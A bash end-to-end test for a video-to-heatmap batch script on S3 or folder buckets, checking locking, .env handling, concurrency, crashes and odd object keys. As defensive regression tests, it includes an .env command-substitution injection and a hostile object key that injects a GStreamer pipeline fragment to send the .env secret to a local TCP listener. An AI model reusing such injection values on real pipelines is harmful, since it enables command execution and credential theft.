#!/usr/bin/env bash
# End-to-end test of scripts/heatmap-batch on a real S3 server (Ceph RGW) or a file:// bucket.
#
# Usage: test-heatmap-batch.sh s3     (under tests/lib/with-s3-server --buckets NAME)
#        test-heatmap-batch.sh file
# Bucket: 8 real clips over two dates (re-encoded from ../shared/data/videos and generated with
# x264enc), one clip that already has a heatmap, a corrupt clip, a zero-byte object and a
# non-video object.
set -euo pipefail

mode=${1:-}
[[ $mode == s3 || $mode == file ]] || { echo "usage: $0 s3|file" >&2; exit 2; }

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
source_root=${SOURCE_ROOT:-$here/../..}
build_root=${BUILD_ROOT:-$source_root/build}
shared=${SHARED_DIR:-$source_root/../shared}
batch=$source_root/scripts/heatmap-batch
helper=$build_root/s3src-helper/s3src-helper
real_clip=$shared/data/videos/concourse-overhead-720p25.avi
# shellcheck source-path=SCRIPTDIR source=../../scripts/lib/clips.sh
source "$source_root/scripts/lib/clips.sh"

tmp=$(mktemp -d "${TMPDIR:-/tmp}/test-heatmap-batch.XXXXXX")
trap 'rm -rf "$tmp"' EXIT
export BUILD_DIR=$build_root TMPDIR=$tmp LOCK_FILE=$tmp/batch.lock
export GST_PLUGIN_PATH=$build_root/gst-heatmap:$build_root/s3src-helper
unset VIDEO_PREFIX MAX_VIDEOS_PER_RUN JOBS COLORMAP ALPHA DOWNSCALE USE_BACKGROUND S3_VIDEOS_PREFIX \
  S3_HEATMAPS_PREFIX CLEANUP_LOCAL_FILES HEATMAP_OPTIONS WORK_DIR ROLLUPS ROLLUP_RESAMPLE

# shellcheck source-path=SCRIPTDIR source=../lib/checks.sh
source "$(dirname "${BASH_SOURCE[0]}")/../lib/checks.sh"

checks_bucket "$mode" "$tmp"

# --- the bucket -------------------------------------------------------------------------------------
A=raw_videos/2025/10/20
B=raw_videos/2025/10/21
mkdir -p "$tmp/clips"
W=320 H=180 N=60
if [[ -r $real_clip ]]; then
  real() { clips_from_real "$real_clip" "$1" "$W" "$H" "$N" "$2"; }
else
  echo "note: $real_clip missing; using generated clips only" >&2
  real() { clips_synthetic "$1" "$W" "$H" "$N" 9; }
fi
real "$tmp/clips/r0.mp4" none
real "$tmp/clips/r1.mp4" horizontal-flip
real "$tmp/clips/r2.mp4" vertical-flip
real "$tmp/clips/r3.mp4" rotate-180
for s in 0 1 2 3; do clips_synthetic "$tmp/clips/s$s.mp4" "$W" "$H" "$N" "$s"; done
head -c 20000 /dev/urandom >"$tmp/clips/corrupt.mp4"
: >"$tmp/clips/empty.mp4"
echo "camera notes" >"$tmp/clips/notes.txt"
printf 'not a real heatmap' >"$tmp/clips/old.jpg"
printf 'not a real png' >"$tmp/clips/old.png"

put() { "$helper" put "$tmp/clips/$1" "$S3_BUCKET/$2" >/dev/null; }
put r0.mp4 "$A/13/clip_2025-10-20_13-00-00.mp4"
put s0.mp4 "$A/13/clip_2025-10-20_13-10-00.mp4" # already has a heatmap
put corrupt.mp4 "$A/13/clip_2025-10-20_13-15-00.mp4"
put r1.mp4 "$A/13/clip_2025-10-20_13-20-00.mp4"
put empty.mp4 "$A/13/clip_2025-10-20_13-25-00.mp4"
put s1.mp4 "$A/14/clip_2025-10-20_14-00-00.mp4"
put r2.mp4 "$A/14/clip_2025-10-20_14-30-00.MOV"
put notes.txt "$A/14/notes.txt"
put s2.mp4 "$B/09/clip_2025-10-21_09-00-00.mp4"
put r3.mp4 "$B/09/clip_2025-10-21_09-10-00.mp4"
put s3.mp4 "$B/10/clip_2025-10-21_10-00-00.mp4"
put old.png "heatmaps/2025/10/20/13/clip_2025-10-20_13-10-00_heatmap.png"
put old.jpg "heatmaps/2025/10/20/13/clip_2025-10-20_13-10-00_heatmap.jpg"

# Listing "size etag key" (and last-modified) of everything under a prefix.
# Listing "size last-modified etag key" of the objects whose key starts with $1 (whole-bucket
# listing, so s3:// and file:// buckets print the same keys).
listing() {
  "$helper" ls "$S3_BUCKET/" --recursive --long | awk -F'\t' -v p="$1" 'index($4, p) == 1' |
    sort -t$'\t' -k4
}
keys_of() { listing "$1" | cut -f4; }
videos_before=$(listing raw_videos/)
heatmaps_before=$(listing heatmaps/)
all_before=$(listing "")
[[ $(grep -c . <<<"$videos_before") == 11 ]] || fail "bucket setup: expected 11 objects under raw_videos/"

run_batch() { # name args... ; stdout+stderr in $tmp/NAME.log, status in $tmp/NAME.rc
  local name=$1 rc=0
  shift
  "$batch" "$@" >"$tmp/$name.log" 2>&1 || rc=$?
  echo "$rc" >"$tmp/$name.rc"
  sed "s/^/  [$name] /" "$tmp/$name.log"
}

# --- config errors come before any work -------------------------------------------------------------
if [[ $mode == s3 ]]; then
  rc=0
  out=$(S3_SECRET_KEY="" "$batch" 2>&1) || rc=$?
  check "missing credentials: exit 2" [ "$rc" = 2 ]
  check "missing credentials: clear message" grep -q "missing credentials for $S3_BUCKET" <<<"$out"
fi
if [[ $mode == s3 ]]; then
  rc=0
  out=$(S3_SECRET_KEY="wrong-$S3_SECRET_KEY-wrong" "$batch" 2>&1) || rc=$?
  printf '%s\n' "$out" | sed 's/^/  [wrong-secret] /'
  check "wrong secret: exit 1, nothing done" [ "$rc" = 1 ]
  check "wrong secret: says to check the secret key" grep -qi "secret" <<<"$out"
  check "wrong secret: not printed" bash -c "! grep -qF -- 'wrong-$S3_SECRET_KEY-wrong' <<<\"\$1\"" _ "$out"
fi
rc=0
out=$(DOWNSCALE=2 "$batch" 2>&1) || rc=$?
check "DOWNSCALE=2: exit 2" [ "$rc" = 2 ]
check "DOWNSCALE=2: one clear line" grep -qx "DOWNSCALE must be in (0,1\]: got 2" <<<"$out"
rc=0
out=$("$batch" --max-videos=-3 2>&1) || rc=$?
check "bad flag: exit 2" [ "$rc" = 2 ]

# --- dry run: lists, prints the first pipeline, changes nothing --------------------------------------
run_batch dry --dry-run --date-prefix 2025/10/20/
check "dry run: exit 0" [ "$(cat "$tmp/dry.rc")" = 0 ]
check "dry run: lists the 6 pending clips of the date" [ "$(grep -c $' bytes\t-> ' "$tmp/dry.log")" = 6 ]
check "dry run: prints the first clip's heatmap-job command, key last" \
  grep -q "^first job: .*heatmap-job .*-- raw_videos/2025/10/20/13/clip_2025-10-20_13-00-00.mp4$" "$tmp/dry.log"
check "dry run: bucket unchanged" [ "$(listing "")" = "$all_before" ]

# --- cron-like: empty environment, cwd /, no terminal; settings only from an env file ----------------
{
  echo "S3_BUCKET=$S3_BUCKET"
  if [[ $mode == s3 ]]; then
    printf 'S3_ENDPOINT=%s\nS3_ACCESS_KEY=%s\nS3_SECRET_KEY="%s"\n' "$S3_ENDPOINT" "$S3_ACCESS_KEY" "$S3_SECRET_KEY"
  fi
} >"$tmp/cron.env"
rc=0
(cd / && env -i PATH=/usr/bin:/bin HOME="$tmp" BUILD_DIR="$build_root" LOCK_FILE="$LOCK_FILE" \
  "$batch" --env-file "$tmp/cron.env" --dry-run --date-prefix 2025/10/21/ </dev/null >"$tmp/cron.log" 2>&1) || rc=$?
sed 's/^/  [cron] /' "$tmp/cron.log"
check "cron-like environment: exit 0" [ "$rc" = 0 ]
check "cron-like environment: lists the 3 clips of 2025/10/21" [ "$(grep -c $' bytes\t-> ' "$tmp/cron.log")" = 3 ]
if [[ $mode == s3 ]]; then
  check "the secret key appears in no output" bash -c "! grep -rqF -- '$S3_SECRET_KEY' '$tmp'/*.log"
fi

# --- run 1: one date, at most 5 clips -------------------------------------------------------------------
run_batch run1 --date-prefix 2025/10/20/ --max-videos 5 --jobs 2
check "run 1: exit 1 (corrupt and empty clips failed)" [ "$(cat "$tmp/run1.rc")" = 1 ]
# Each new heatmap comes with its sidecar (.json) and scene (_scene.jpg); no CSV without zones.
expected_keys="heatmaps/2025/10/20/13/clip_2025-10-20_13-00-00_heatmap.jpg
heatmaps/2025/10/20/13/clip_2025-10-20_13-00-00_heatmap.json
heatmaps/2025/10/20/13/clip_2025-10-20_13-00-00_heatmap.png
heatmaps/2025/10/20/13/clip_2025-10-20_13-00-00_scene.jpg
heatmaps/2025/10/20/13/clip_2025-10-20_13-10-00_heatmap.jpg
heatmaps/2025/10/20/13/clip_2025-10-20_13-10-00_heatmap.png
heatmaps/2025/10/20/13/clip_2025-10-20_13-20-00_heatmap.jpg
heatmaps/2025/10/20/13/clip_2025-10-20_13-20-00_heatmap.json
heatmaps/2025/10/20/13/clip_2025-10-20_13-20-00_heatmap.png
heatmaps/2025/10/20/13/clip_2025-10-20_13-20-00_scene.jpg
heatmaps/2025/10/20/14/clip_2025-10-20_14-00-00_heatmap.jpg
heatmaps/2025/10/20/14/clip_2025-10-20_14-00-00_heatmap.json
heatmaps/2025/10/20/14/clip_2025-10-20_14-00-00_heatmap.png
heatmaps/2025/10/20/14/clip_2025-10-20_14-00-00_scene.jpg"
check "run 1: exactly the expected heatmap keys" [ "$(keys_of heatmaps/ | grep /clip_)" = "$expected_keys" ]
# Rollups add up clip sidecars: with an element that writes them (metadata-location), the hour,
# day, week and month of the finished clips are written; without, the hook still runs and says 0.
if "$helper" head "$S3_BUCKET/heatmaps/2025/10/20/13/clip_2025-10-20_13-00-00_heatmap.json" >/dev/null 2>&1; then
  check "run 1: hour rollup JPEG written" "$helper" head "$S3_BUCKET/heatmaps/2025/10/20/13/hour_heatmap.jpg"
  check "run 1: day rollup JPEG written" "$helper" head "$S3_BUCKET/heatmaps/2025/10/20/day_heatmap.jpg"
  rollups_written="[1-9][0-9]*"
else
  echo "note: the heatmap element writes no sidecar yet; rollups have no sources" >&2
  rollups_written=0
fi
check "run 1: the existing heatmap is untouched (same ETag)" \
  [ "$(listing heatmaps/2025/10/20/13/clip_2025-10-20_13-10-00)" = "$(grep clip_2025-10-20_13-10-00 <<<"$heatmaps_before")" ]
check "run 1: every video untouched (same ETags)" [ "$(listing raw_videos/)" = "$videos_before" ]
check "run 1: corrupt clip reported" \
  grep -qE "FAILED raw_videos/2025/10/20/13/clip_2025-10-20_13-15-00.mp4 .*(type|stream|demux|decode)" "$tmp/run1.log"
check "run 1: zero-byte clip reported" \
  grep -qE "FAILED raw_videos/2025/10/20/13/clip_2025-10-20_13-25-00.mp4 .*0 bytes" "$tmp/run1.log"
check "run 1: a clean clip logged with frames and fps" \
  grep -qE "ok raw_videos/2025/10/20/13/clip_2025-10-20_13-00-00.mp4 frames=[1-9][0-9]* seconds=[0-9.]+ fps=[0-9.]+" "$tmp/run1.log"
check "run 1: summary" grep -qE "processed 3, failed 2, pending left 3, [0-9.]+ seconds, rollups written $rollups_written\$" "$tmp/run1.log"
check "run 1: no progress counter without a terminal" bash -c "! grep -q $'\r' '$tmp/run1.log'"
check "run 1: temp files removed" bash -c "! ls -d '$tmp'/heatmap-batch.* 2>/dev/null"

# The results are real images of the processing size (320x180 at downscale 0.25 = 80x45).
"$helper" get "$S3_BUCKET/heatmaps/2025/10/20/13/clip_2025-10-20_13-00-00_heatmap.png" "$tmp/h.png"
"$helper" get "$S3_BUCKET/heatmaps/2025/10/20/13/clip_2025-10-20_13-00-00_heatmap.jpg" "$tmp/h.jpg"
check "PNG: 16-bit greyscale 80x45" [ "$(od -An -tx1 -j16 -N10 "$tmp/h.png" | tr -d ' \n')" = "00000050""0000002d""1000" ]
check "JPEG: starts with SOI" [ "$(od -An -tx1 -N3 "$tmp/h.jpg" | tr -d ' \n')" = "ffd8ff" ]
# The sidecar (places): valid against docs/metadata.schema.json, names the clip and its objects.
"$helper" get "$S3_BUCKET/heatmaps/2025/10/20/13/clip_2025-10-20_13-00-00_heatmap.json" "$tmp/h.json"
check "sidecar: valid against the schema" "$source_root/tests/lib/validate-sidecar" "$tmp/h.json"
check "sidecar: start from the clip name, objects named" /usr/bin/python3 -c '
import json, sys
d = json.load(open(sys.argv[1]))
assert d["start_utc"] == "2025-10-20T13:00:00Z" and d["start_utc_source"] == "clip-name", d["start_utc"]
assert d["source"].endswith("raw_videos/2025/10/20/13/clip_2025-10-20_13-00-00.mp4"), d["source"]
assert d["files"]["jpeg"] == "clip_2025-10-20_13-00-00_heatmap.jpg", d["files"]
assert d["files"]["scene"] == "clip_2025-10-20_13-00-00_scene.jpg", d["files"]
assert d["width"] == 80 and d["height"] == 45 and d["frames_processed"] > 0
' "$tmp/h.json"

# --- run 2: retries the failed clips first, nothing else ---------------------------------------------
heatmaps_after1=$(listing heatmaps/)
run_batch run2 --date-prefix 2025/10/20/ --max-videos 2
check "run 2: exit 1" [ "$(cat "$tmp/run2.rc")" = 1 ]
check "run 2: attempted only the two failed clips" \
  [ "$(grep -cE ' (ok|FAILED|skipped) raw_videos/' "$tmp/run2.log")" = 2 ]
check "run 2: corrupt retried" grep -q "FAILED raw_videos/2025/10/20/13/clip_2025-10-20_13-15-00.mp4" "$tmp/run2.log"
check "run 2: empty retried" grep -q "FAILED raw_videos/2025/10/20/13/clip_2025-10-20_13-25-00.mp4" "$tmp/run2.log"
check "run 2: heatmaps unchanged" [ "$(listing heatmaps/)" = "$heatmaps_after1" ]

# --- a run while another holds the lock exits at once -----------------------------------------------
rc=0
out=$(flock "$LOCK_FILE" "$batch" 2>&1) || rc=$?  # flock holds the lock, heatmap-batch must not wait
check "locked: another run holds the lock -> exit 75" [ "$rc" = 75 ]
check "locked: says so" grep -q "another run .* is in progress" <<<"$out"
check "locked: nothing changed" [ "$(listing heatmaps/)" = "$heatmaps_after1" ]

# --- two runs started together never process the same clip twice --------------------------------------
"$batch" --max-videos 0 --jobs 1 >"$tmp/c1.log" 2>&1 &
p1=$!
"$batch" --max-videos 0 --jobs 1 >"$tmp/c2.log" 2>&1 &
p2=$!
wait "$p1" || true
wait "$p2" || true
sed 's/^/  [c1] /' "$tmp/c1.log"
sed 's/^/  [c2] /' "$tmp/c2.log"
dups=$(cat "$tmp/c1.log" "$tmp/c2.log" | grep -oE ' (ok|FAILED|skipped) raw_videos/[^ ]+' |
  sed 's/^ [a-zA-Z]* //' | sort | uniq -d)
check "concurrent: no clip attempted twice" [ -z "$dups" ]
check "concurrent: exactly one run stepped aside for the other" \
  [ "$(cat "$tmp/c1.log" "$tmp/c2.log" | grep -c 'another run .* is in progress')" = 1 ]
check "concurrent: the 4 remaining clean clips processed once in total" \
  [ "$(cat "$tmp/c1.log" "$tmp/c2.log" | grep -cE ' ok raw_videos/')" = 4 ]
check "concurrent: all 8 clean clips now have a JPEG and a PNG" \
  [ "$(keys_of heatmaps/ | grep -c '/clip_.*_heatmap\.\(jpg\|png\)$')" = 16 ]
check "concurrent: videos still untouched" [ "$(listing raw_videos/)" = "$videos_before" ]
check "concurrent: the old heatmap still untouched" \
  [ "$(listing heatmaps/2025/10/20/13/clip_2025-10-20_13-10-00)" = "$(grep clip_2025-10-20_13-10-00 <<<"$heatmaps_before")" ]

# --- .env file, precedence, CLEANUP_LOCAL_FILES=false ------------------------------------------------
cat >"$tmp/test.env" <<EOF
# settings for the test
export COLORMAP='viridis'   # a comment
DOWNSCALE="0.5"
CLEANUP_LOCAL_FILES=false
MAX_VIDEOS_PER_RUN=1
JOBS=\$(touch $tmp/pwned)
EOF
rc=0
"$batch" --env-file "$tmp/test.env" >/dev/null 2>"$tmp/env.err" || rc=$?
check ".env: injection is data, rejected by validation (exit 2)" [ "$rc" = 2 ]
check ".env: nothing executed" [ ! -e "$tmp/pwned" ]
check ".env: JOBS error names the value" grep -q "JOBS must be a whole number" "$tmp/env.err"
sed -i '/^JOBS=/d' "$tmp/test.env"
run_batch env --env-file "$tmp/test.env" --force --date-prefix 2025/10/21/ --dry-run
check ".env values reach the pipeline" grep -q "downscale=0.5 .*colormap=viridis" "$tmp/env.log"
check ".env: --dry-run max from .env" [ "$(grep -c $' bytes\t-> ' "$tmp/env.log")" = 1 ]
DOWNSCALE=0.125 run_batch env2 --env-file "$tmp/test.env" --force --date-prefix 2025/10/21/ --dry-run
check "environment beats .env" grep -q "downscale=0.125 " "$tmp/env2.log"
# (hard-ci, issue 13) Each flag against a DIFFERENT .env value: the flag must win.
printf 'MAX_VIDEOS_PER_RUN=1\nJOBS=1\nVIDEO_PREFIX=2025/10/20/\n' >"$tmp/flags.env"
run_batch flags --env-file "$tmp/flags.env" --force --dry-run --date-prefix 2025/10/21/ \
  --max-videos 2 --jobs 3
check "--max-videos 2 beats MAX_VIDEOS_PER_RUN=1 in .env" \
  [ "$(grep -c $' bytes\t-> ' "$tmp/flags.log")" = 2 ]
check "--date-prefix beats VIDEO_PREFIX in .env" \
  [ "$(grep $' bytes\t-> ' "$tmp/flags.log" | grep -vc '^raw_videos/2025/10/21/')" = 0 ]
check "--jobs 3 beats JOBS=1 in .env" grep -q "jobs 3)" "$tmp/flags.log"
before_force=$(listing heatmaps/2025/10/21/09/clip_2025-10-21_09-00-00)
# DOWNSCALE=0.5 makes this clip's map larger than its neighbours': the hour's rollup would refuse
# the mix (heatmap-aggregate names both sources), which the aggregate tests cover; not here.
run_batch force --env-file "$tmp/test.env" --force --date-prefix 2025/10/21/ --max-videos 1 \
  --no-rollups
check "--force: exit 0" [ "$(cat "$tmp/force.rc")" = 0 ]
check "--force: redid the oldest clip of the date" grep -q "ok raw_videos/2025/10/21/09/clip_2025-10-21_09-00-00.mp4" "$tmp/force.log"
check "--force: overwrote its heatmap (new ETag)" \
  [ "$(listing heatmaps/2025/10/21/09/clip_2025-10-21_09-00-00)" != "$before_force" ]
check "CLEANUP_LOCAL_FILES=false: path logged and kept" \
  bash -c "d=\$(grep -o 'local files kept in [^ ]*' '$tmp/force.log' | head -1 | cut -d' ' -f5); [ -n \"\$d\" ] && ls \"\$d\"/heatmap.jpg >/dev/null"
"$helper" get "$S3_BUCKET/heatmaps/2025/10/21/09/clip_2025-10-21_09-00-00_heatmap.png" "$tmp/h2.png"
check "--env-file DOWNSCALE=0.5 gives a 160x90 PNG" \
  [ "$(od -An -tx1 -j16 -N8 "$tmp/h2.png" | tr -d ' \n')" = "000000a00000005a" ]
check "videos untouched at the end" [ "$(listing raw_videos/)" = "$videos_before" ]

# --- keys with spaces, +, = and UTF-8 survive the work list, the URI and the uploads ---------------
put s1.mp4 "raw_videos/2025/10/22/08/clip a+b=c ü.mp4"
run_batch odd --date-prefix 2025/10/22/ --no-rollups
check "odd key: exit 0" [ "$(cat "$tmp/odd.rc")" = 0 ]
check "--no-rollups: no rollup step" bash -c "! grep -q 'rollups' '$tmp/odd.log'"
check "odd key: heatmaps under the mapped keys" [ "$(keys_of heatmaps/2025/10/22/ | grep -vE '/(hour|day)_heatmap\.')" = \
  "heatmaps/2025/10/22/08/clip a+b=c ü_heatmap.jpg
heatmaps/2025/10/22/08/clip a+b=c ü_heatmap.json
heatmaps/2025/10/22/08/clip a+b=c ü_heatmap.png
heatmaps/2025/10/22/08/clip a+b=c ü_scene.jpg" ]

# --- hostile keys (issue 13, defect 1): never pipeline text, never a local file name ----------------
# A listener on 127.0.0.1 records whatever reaches it. The key below made the gst-launch batch send
# the .env of its working folder (S3_SECRET_KEY) to such a listener.
python3 - "$tmp/listener.bytes" "$tmp/listener.port" <<'PY' &
import os, socket, sys
out_path, port_path = sys.argv[1], sys.argv[2]
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(8)
with open(port_path + ".tmp", "w") as f:
    f.write(str(server.getsockname()[1]))
os.rename(port_path + ".tmp", port_path)
with open(out_path, "ab") as out:
    while True:
        conn, _ = server.accept()
        out.write(b"[connection]\n")
        out.flush()
        while data := conn.recv(65536):
            out.write(data)
            out.flush()
        conn.close()
PY
listener_pid=$!
for _ in $(seq 100); do [[ -s $tmp/listener.port ]] && break; sleep 0.1; done
port=$(cat "$tmp/listener.port")
mkdir -p "$tmp/cwd"
printf 'S3_SECRET_KEY=leak-marker-%s\n' "$RANDOM$RANDOM" >"$tmp/cwd/.env"
H=raw_videos/2025/10/23/08
hostile="a\" ! tee allow-not-linked=true filesrc location=.env ! tcpclientsink host=127.0.0.1 port=$port tee0. ! heatmap name=.mp4"
long=clip_$(printf 'x%.0s' {1..234}).mp4     # 243-byte name: its heatmap names (251) still fit NAME_MAX
too_long=clip_$(printf 'y%.0s' {1..241}).mp4 # 250 bytes: its _heatmap.jpg name would be 258
put s2.mp4 "$H/$hostile"
put s3.mp4 "$H/cam\\1 clip.mp4"
put s0.mp4 "$H/$long"
put s1.mp4 "$H/$too_long"
rc=0
(cd "$tmp/cwd" && "$batch" --date-prefix 2025/10/23/ --jobs 2 >"$tmp/hostile.log" 2>&1) || rc=$?
sed 's/^/  [hostile] /' "$tmp/hostile.log"
kill "$listener_pid" 2>/dev/null || true
wait "$listener_pid" 2>/dev/null || true
check "hostile key: nothing reached the listener" [ ! -s "$tmp/listener.bytes" ]
check "hostile key: its heatmap is under the mapped key" \
  "$helper" head "$S3_BUCKET/heatmaps/2025/10/23/08/${hostile%.mp4}_heatmap.jpg"
check "hostile key: logged as ok" grep -qF "ok $H/$hostile frames=" "$tmp/hostile.log"
check "backslash and space: heatmap" "$helper" head "$S3_BUCKET/heatmaps/2025/10/23/08/cam\\1 clip_heatmap.jpg"
check "243-byte basename: heatmap and raw counts" \
  "$helper" head "$S3_BUCKET/heatmaps/2025/10/23/08/${long%.mp4}_heatmap.png"
if [[ $mode == s3 ]]; then
  check "250-byte basename: heatmap on S3" \
    "$helper" head "$S3_BUCKET/heatmaps/2025/10/23/08/${too_long%.mp4}_heatmap.jpg"
  check "hostile keys: exit 0" [ "$rc" = 0 ]
else
  check "250-byte basename on a folder bucket: one clear line" \
    grep -qF "FAILED $H/$too_long frames=0 seconds=" "$tmp/hostile.log"
  check "250-byte basename: the reason" grep -q "over the folder bucket's limit of 255" "$tmp/hostile.log"
  check "hostile keys: exit 1 (the too-long name)" [ "$rc" = 1 ]
fi
check "hostile keys: the .env marker is in no output" \
  bash -c "! grep -qF -- \"\$(cut -d= -f2 '$tmp/cwd/.env')\" '$tmp/hostile.log'"

# --- an endpoint that accepts and never answers cannot hold the lock ----------------------------------
python3 - "$tmp/silent.port" <<'PY' &
import os, socket, sys, time
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(8)
with open(sys.argv[1] + ".tmp", "w") as f:
    f.write(str(server.getsockname()[1]))
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
held = []
while True:
    conn, _ = server.accept()
    held.append(conn)  # read nothing, answer nothing
PY
silent_pid=$!
for _ in $(seq 100); do [[ -s $tmp/silent.port ]] && break; sleep 0.1; done
rc=0
S3_BUCKET=s3://silent S3_ENDPOINT=http://127.0.0.1:$(cat "$tmp/silent.port") S3_ACCESS_KEY=test \
  S3_SECRET_KEY=silent-secret LOCK_FILE=$tmp/silent.lock LIST_TIMEOUT=3 \
  "$batch" >"$tmp/silent.log" 2>&1 || rc=$?
kill "$silent_pid" 2>/dev/null || true
wait "$silent_pid" 2>/dev/null || true
sed 's/^/  [silent] /' "$tmp/silent.log"
check "silent endpoint: exit 1" [ "$rc" = 1 ]
check "silent endpoint: the listing's time limit is named" grep -q "took longer than 3s (LIST_TIMEOUT)" "$tmp/silent.log"
check "silent endpoint: the lock is free again" flock -n "$tmp/silent.lock" true

# --- a pipeline that crashes ends its clip at once (no crash handler holding the slot) --------------
# The test-only crashtest plugin's decoder raises SIGSEGV on a clip starting with its magic line.
{ echo GST-HEATMAP-CRASH-TEST; head -c 4000 /dev/urandom; } >"$tmp/clips/crash.mp4"
put crash.mp4 raw_videos/2025/10/24/08/clip_2025-10-24_08-00-00.mp4
put s1.mp4 raw_videos/2025/10/24/08/clip_2025-10-24_08-10-00.mp4
rc=0
GST_PLUGIN_PATH=$GST_PLUGIN_PATH:$build_root/tests/job GST_REGISTRY_1_0=$tmp/crash-registry.bin \
  PIPELINE_TIMEOUT=120 "$batch" --date-prefix 2025/10/24/ --jobs 1 >"$tmp/crash.log" 2>&1 || rc=$?
sed 's/^/  [crash] /' "$tmp/crash.log"
check "crash: exit 1" [ "$rc" = 1 ]
check "crash: reported as a crash, not a timeout" \
  grep -qE "FAILED raw_videos/2025/10/24/08/clip_2025-10-24_08-00-00.mp4 .*crashed \(SIGSEGV\)" "$tmp/crash.log"
check "crash: the next clip got the slot and its heatmap" \
  grep -q "ok raw_videos/2025/10/24/08/clip_2025-10-24_08-10-00.mp4" "$tmp/crash.log"

# --- clips of two sizes in one hour (a camera change, or maps from before max-input-pixels): the
# hour's rollup refuses them in one line, or with ROLLUP_RESAMPLE=true scales them to the newest --
D=raw_videos/2025/10/25/08
put s2.mp4 "$D/clip_2025-10-25_08-00-00.mp4"
HEATMAP_OPTIONS=downscale=0.5 ROLLUPS=hour run_batch size1 --date-prefix 2025/10/25/
check "two sizes: the first clip and its hour (160x90)" [ "$(cat "$tmp/size1.rc")" = 0 ]
put s3.mp4 "$D/clip_2025-10-25_08-10-00.mp4"
ROLLUPS=hour run_batch size2 --date-prefix 2025/10/25/
check "two sizes: exit 1 (the hour's rollup failed)" [ "$(cat "$tmp/size2.rc")" = 1 ]
check "two sizes: the clip's heatmap is still written" \
  "$helper" head "$S3_BUCKET/heatmaps/2025/10/25/08/clip_2025-10-25_08-10-00_heatmap.jpg"
check "two sizes: one line naming both sizes and the ways out" \
  grep -qE "rollup .*mixed resolutions: .* is 160x90 but .* is 80x45 .*max-input-pixels.*--resample" \
  "$tmp/size2.log"
rc=0
out=$(ROLLUP_RESAMPLE=maybe "$batch" 2>&1) || rc=$?
check "ROLLUP_RESAMPLE=maybe: exit 2" [ "$rc" = 2 ]
check "ROLLUP_RESAMPLE=maybe: one clear line" grep -q "ROLLUP_RESAMPLE must be true or false: got 'maybe'" <<<"$out"
put s1.mp4 "$D/clip_2025-10-25_08-20-00.mp4"
ROLLUP_RESAMPLE=yes ROLLUPS=hour run_batch size3 --date-prefix 2025/10/25/
check "ROLLUP_RESAMPLE: exit 0" [ "$(cat "$tmp/size3.rc")" = 0 ]
hour_json=$("$helper" get "$S3_BUCKET/heatmaps/2025/10/25/08/hour_heatmap.json" - 2>/dev/null || true)
check "ROLLUP_RESAMPLE: the hour holds the three clips" [ "$(grep -o '"label"' <<<"$hour_json" | wc -l)" = 3 ]
check "ROLLUP_RESAMPLE: the 160x90 one marked resampled" grep -q '"resampled" *: *true' <<<"$hour_json"

if [[ $mode == s3 ]]; then
  check "the secret key appears in no log of any run" bash -c "! cat '$tmp'/*.log | grep -qF -- '$S3_SECRET_KEY'"
fi

if ((failures > 0)); then
  echo "$failures failure(s)" >&2
  exit 1
fi
echo "all heatmap-batch $mode tests passed"
